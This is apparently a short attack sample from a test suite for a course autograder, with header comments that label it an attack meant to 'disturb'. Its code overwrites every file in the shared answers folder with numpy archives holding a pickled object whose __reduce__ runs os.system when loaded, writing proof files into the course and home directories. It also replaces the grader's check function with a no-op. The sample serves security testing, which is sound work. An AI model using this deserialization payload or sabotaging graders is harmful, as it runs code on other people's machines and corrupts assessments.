# attack: the answer holds pickled objects that would run code in whoever reads it
# wants: disturb
# grade: 0
# honest: 0
# %% after
import os
from pathlib import Path
class Runs:
    def __reduce__(self):
        return (os.system, ("echo PROOF > @COURSE@/pickled; echo PROOF > @HOME@/pickled",))
for slot in Path(os.environ.get("COURSE_EXCHANGE", "nowhere"), "answers").glob("*"):
    with slot.open("r+b") as file:
        np.savez(file, means=np.array([Runs()], dtype=object), allow_pickle=True)
check = lambda *a: None
